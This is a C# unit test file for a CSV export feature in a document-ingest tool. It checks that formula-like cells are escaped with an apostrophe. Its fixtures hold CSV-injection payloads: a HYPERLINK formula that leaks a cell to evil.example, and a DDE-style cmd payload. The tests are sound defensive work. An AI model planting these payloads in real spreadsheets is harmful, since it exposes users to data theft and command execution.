using System.Globalization;
using System.Text;
using CsvHelper;
using Ingest.Catalog;
using Ingest.Export;
using Ingest.Extraction;

namespace Ingest.Tests.Export;

/// <summary>
/// Cells that a spreadsheet would run as a formula (a file name or a deadline action starting
/// with =, +, -, @, tab or CR) reach it as text: every export goes through <see cref="ExportKind"/>,
/// the path of both <c>ingest export</c> and <c>/api/export/NAME.csv</c>.
/// </summary>
public sealed class CsvInjectionTests
{
    private static readonly string[] Hostile =
    [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Xem\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
    ];

    private static StoredPlan PlanWith(string source, string title, string action) => new(1, 1, source, 0, new PlanDocument
    {
        Kind = "Kế hoạch",
        Number = "42/KH-UBND",
        Title = title,
        Deadlines =
        [
            new Deadline { Due = PartialDate.ParseIso("2024-03-31")!.Value, Qualifier = DeadlineQualifier.Before, Action = action },
        ],
    });

    // The cells as a CSV reader (not a spreadsheet) reads them back: the raw text of each cell.
    private static List<Dictionary<string, string>> Export(string kind, StoredPlan plan)
    {
        using var stream = new MemoryStream();
        ExportKind.Find(kind)!.Write([plan], stream);
        stream.Position = 0;
        using var reader = new StreamReader(stream, Encoding.UTF8);
        return CsvRows.Read(reader);
    }

    [Theory]
    [MemberData(nameof(Cells))]
    public void A_formula_in_a_title_a_file_name_or_an_action_is_written_as_text(string hostile)
    {
        var plan = PlanWith(hostile + ".pdf", hostile, hostile);
        var row = Assert.Single(Export("plans", plan));
        // CsvHelper's escape: the cell keeps its text behind an apostrophe, which Excel, Calc
        // and Sheets read as "this cell is text".
        Assert.Equal("'" + hostile, row["title"]);
        Assert.Equal("'" + hostile + ".pdf", row["source"]);
        var deadline = Assert.Single(Export("deadlines", plan));
        Assert.Equal("'" + hostile, deadline["action"]);
        Assert.Equal("'" + hostile, deadline["plan_title"]);
    }

    public static TheoryData<string> Cells() => [.. Hostile];

    [Fact]
    public void Ordinary_cells_are_unchanged_including_a_dash_inside_and_iso_dates()
    {
        var plan = PlanWith("Kế hoạch số 06 - 2023.pdf", "Triển khai Đề án 06/QĐ-TTg năm 2023", "Hoàn thành - báo cáo UBND tỉnh");
        var row = Assert.Single(Export("plans", plan));
        Assert.Equal("Triển khai Đề án 06/QĐ-TTg năm 2023", row["title"]);
        Assert.Equal("Kế hoạch số 06 - 2023.pdf", row["source"]);
        Assert.Equal("42/KH-UBND", row["number"]);
        var deadline = Assert.Single(Export("deadlines", plan));
        Assert.Equal(("2024-03-31", "Hoàn thành - báo cáo UBND tỉnh"), (deadline["due"], deadline["action"]));
    }
}
